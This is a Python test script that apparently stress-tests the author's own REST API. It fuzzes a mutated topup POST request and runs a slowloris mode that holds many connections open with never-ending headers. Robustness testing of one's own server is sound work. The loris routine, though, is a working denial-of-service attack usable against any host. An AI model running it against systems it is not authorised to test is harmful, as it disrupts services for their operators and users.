#!/usr/bin/env python3
"""rest_attack.py fuzz HOST PORT COUNT | loris HOST PORT COUNT SECONDS: what strangers do to a REST server. `fuzz` prints
the statuses that were answered; `loris` holds connections on which a header never ends, and opens them again."""
import random
import select
import socket
import sys
import time

GOOD = (b"POST /v1/users/alice/topups?x=1 HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer snapt_AAAA\r\n"
        b"Idempotency-Key: k\r\nContent-Type: application/json\r\nContent-Length: 15\r\n\r\n{\"amount\":\"50\"}")


def fuzz(host, port, count):
    rng = random.Random(7)
    statuses = set()
    for _ in range(count):
        text = bytearray(GOOD[:rng.randrange(1, len(GOOD) + 1)])
        for _ in range(rng.randrange(6)):
            at = rng.randrange(len(text))
            if rng.random() < 0.5:
                text[at] = rng.randrange(256)
            else:
                text[at:at] = bytes([rng.randrange(256)]) * rng.randrange(3000)
        with socket.create_connection((host, port), timeout=15) as stream:
            stream.settimeout(0.1)  # refusals come at once; what is no whole request may wait for its end
            answer = b""
            try:
                stream.sendall(text)
                stream.shutdown(socket.SHUT_WR)
                while block := stream.recv(65536):
                    answer += block
            except OSError:
                pass
            if answer:
                statuses.add(answer.split(b" ", 2)[1].decode("latin-1"))
    print(" ".join(sorted(statuses)))


def loris(host, port, count, seconds):
    held = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(held) < count:
            stream = socket.create_connection((host, port), timeout=5)
            stream.setblocking(False)
            stream.send(b"GET /v1/status HTTP/1.1\r\n")
            held.append(stream)
        readable, _, _ = select.select(held, [], [], 0.2)
        for stream in held[:]:
            try:
                stream.send(b"X: a\r\n")
                gone = stream in readable and not stream.recv(4096)
            except OSError:
                gone = True
            if gone:
                stream.close()
                held.remove(stream)


def main():
    what, host, port, *numbers = sys.argv[1:]
    {"fuzz": fuzz, "loris": loris}[what](host, int(port), *map(int, numbers))


if __name__ == "__main__":
    main()
